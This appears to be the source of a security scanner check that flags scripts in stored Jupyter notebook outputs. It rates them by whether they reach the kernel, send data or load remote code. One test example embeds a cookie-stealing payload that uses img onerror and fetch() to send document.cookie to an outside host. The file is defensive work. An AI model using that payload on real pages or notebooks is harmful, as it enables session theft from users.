import type { FindingDetails } from "../../core/index.ts";
import { activeInMarkup, activeInScript, type Active } from "../../detect/active.ts";
import { defineCheck } from "../define.ts";
import { hostOf, isLocalHost } from "../support/addresses.ts";
import { outputsOf, placeOf } from "./support.ts";

/** Places that plotting libraries load themselves from. */
const libraries =
  /^(?:cdn\.plot\.ly|cdn\.jsdelivr\.net|cdnjs\.cloudflare\.com|unpkg\.com|cdn\.bokeh\.org|cdn\.pydata\.org|cdn\.holoviz\.org|code\.jquery\.com|code\.highcharts\.com|cdn\.anychart\.com|[\w.-]+\.bootstrapcdn\.com|ajax\.googleapis\.com|[\w.-]+\.gstatic\.com|apis\.google\.com|d3js\.org|vega\.github\.io|mpld3\.github\.io|cdn\.mathjax\.org|polyfill-fastly\.io|assets\.pyecharts\.org|cdn\.datatables\.net|cdn\.rawgit\.com|rawcdn\.githack\.com|use\.fontawesome\.com|kit\.fontawesome\.com|cdn\.knightlab\.com|platform\.twitter\.com|www\.google\.com)$/i;

/** Places whose pages people show in a notebook. */
const shows =
  /(?:^|\.)(?:youtube(?:-nocookie)?\.com|youtu\.be|vimeo\.com|wandb\.ai|comet\.(?:com|ml)|neptune\.ai|github\.io|wikipedia\.org|readthedocs\.io|google\.com|plotly\.com|plot\.ly|jupyter\.org|nbviewer\.org|tensorflow\.org|pytorch\.org|huggingface\.co|hf\.space|gradio\.(?:live|app)|kaggle\.com|arxiv\.org|openstreetmap\.org|databricks\.com)$/i;

const audit: Partial<FindingDetails> = { severity: "info", audience: "audit" };

function judge({ kind, url = "" }: Active): FindingDetails {
  const host = hostOf(url.startsWith("//") ? `https:${url}` : url);
  switch (kind) {
    case "kernel":
      return { severity: "high", message: "A script in a stored output runs code in the kernel" };
    case "send":
      return { message: "A script in a stored output talks to a server, or reads cookies" };
    case "handler":
      return { message: "A stored output runs a script as soon as it is shown" };
    case "remote-script":
      if (libraries.test(host) || isLocalHost(host))
        return {
          ...audit,
          message: `A stored output loads a script from ${host || "this machine"}`,
        };
      return { message: `A stored output loads a script from ${host}` };
    case "frame":
      if (host === "" || isLocalHost(host) || shows.test(host) || libraries.test(host))
        return { ...audit, message: "A stored output shows a page in a frame" };
      return {
        severity: "low",
        audience: "pedantic",
        message: `A stored output shows a page from ${host}`,
      };
    case "link":
      return { ...audit, message: "A link in a stored output runs a script" };
    default:
      return { ...audit, message: "A stored output has a script" };
  }
}

export const notebookOutputScript = defineCheck({
  meta: {
    id: "notebook-output-script",
    code: "PV-NB-001",
    title: "A stored output of a notebook is active",
    asset: "notebook",
    severity: "medium",
    confidence: "medium",
    audience: "default",
    aliases: [],
    controls: ["CWE-79", "CWE-829", "OWASP-ML06:2023"],
    why: "Whoever opens the notebook and trusts it runs the script with the rights of their session: it can run code in the kernel, read other notebooks, and send them away.",
    mend: "Clear the outputs before the notebook is committed (`nbstripout`), and run the cells yourself before you trust one.",
    blind: "What a script of more than 20,000 characters does: libraries are stored whole.",
    since: "0.1.0",
    examples: {
      found: [
        {
          path: "report.ipynb",
          code: '{"cells": [{"cell_type": "code", "source": "show(report)", "outputs": [{"output_type": "display_data", "data": {"text/html": "<img src=x onerror=\\"fetch(\'https://a.riverbank.io/?\' + document.cookie)\\">"}}]}], "metadata": {}, "nbformat": 4}\n',
        },
      ],
      clean: [
        {
          path: "report.ipynb",
          code: '{"cells": [{"cell_type": "code", "source": "show(report)", "outputs": [{"output_type": "display_data", "data": {"text/html": "<table><tr><td>1</td></tr></table>"}}]}], "metadata": {}, "nbformat": 4}\n',
        },
      ],
    },
  },
  run: (notebook, report) => {
    for (const [segment, text] of outputsOf(notebook)) {
      const mime = segment.mime ?? "";
      const active = /javascript/.test(mime)
        ? activeInScript(text)
        : /^text\/html|^image\/svg/.test(mime)
          ? activeInMarkup(text)
          : [];
      const said = new Set<string>();
      for (const place of active) {
        const details = judge(place);
        // A plot has a script for each of its parts: one of a kind is told.
        const key = details.message ?? "";
        if (said.has(key)) continue;
        said.add(key);
        report(placeOf(segment, place), details);
      }
    }
  },
});
